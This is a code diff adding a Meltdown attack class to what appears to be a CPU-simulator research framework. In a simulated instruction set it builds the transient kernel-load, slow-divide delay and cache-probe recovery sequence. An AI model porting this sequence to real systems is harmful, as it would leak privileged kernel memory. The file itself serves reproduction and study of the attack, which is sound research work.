@@ -1,0 +1,63 @@
+"""Meltdown: deferred privilege checks leak kernel memory transiently."""
+
+from repro.attacks.base import (
+    Attack, PHASE_LEAK, PHASE_RECOVER, PHASE_SETUP, STACK_BASE,
+    emit_calibration, emit_flush_probe, emit_probe_and_store,
+    emit_probe_init,
+)
+from repro.sim import ProgramBuilder
+from repro.sim.isa import KERNEL_BASE
+
+_KSECRET = KERNEL_BASE + 0x100
+
+
+class Meltdown(Attack):
+    """The classic rogue-data-cache-load sequence (paper Section II):
+    warm the kernel line, delay retirement of the faulting load with a
+    dependent slow-op chain, transiently index the probe array with the
+    loaded kernel bit, and recover it after the trap."""
+
+    name = "meltdown"
+    category = "meltdown"
+
+    def build(self):
+        n = len(self.secret_bits)
+        b = ProgramBuilder(self.name)
+        for i, bit in enumerate(self.secret_bits):
+            b.data(_KSECRET + 8 * i, bit)
+        b.reg(15, STACK_BASE)
+        emit_probe_init(b, 1, 0)
+        b.mark(PHASE_SETUP)
+        emit_calibration(b)
+        b.movi(13, 0)
+        b.label("bitloop")
+        b.mark(PHASE_LEAK)
+        emit_flush_probe(b, 1)
+        b.shl(2, 13, 3)
+        b.addi(2, 2, _KSECRET)      # r2 -> kernel secret bit i
+        b.prefetch(2, 0)            # step 2: get the kernel line into L1
+        b.fence()
+        b.try_("recover")
+        # step 4: fill the ROB with a slow dependent chain so the faulting
+        # load retires late
+        b.movi(4, 1_000_000)
+        b.movi(5, 3)
+        b.div(4, 4, 5)
+        b.div(4, 4, 5)
+        b.div(4, 4, 5)
+        b.add(6, 4, 0)
+        # steps 3+5: transient kernel load indexes the probe array
+        b.load(3, 2, 0)
+        b.shl(3, 3, 6)
+        b.add(3, 3, 1)
+        b.load(3, 3, 0)
+        b.label("dead")
+        b.jmp("dead")               # fall-through never reaches recovery
+        b.label("recover")
+        b.mark(PHASE_RECOVER)
+        emit_probe_and_store(b, 1, 13)
+        b.addi(13, 13, 1)
+        b.movi(14, n)
+        b.blt(13, 14, "bitloop")
+        b.halt()
+        return b.build(), []
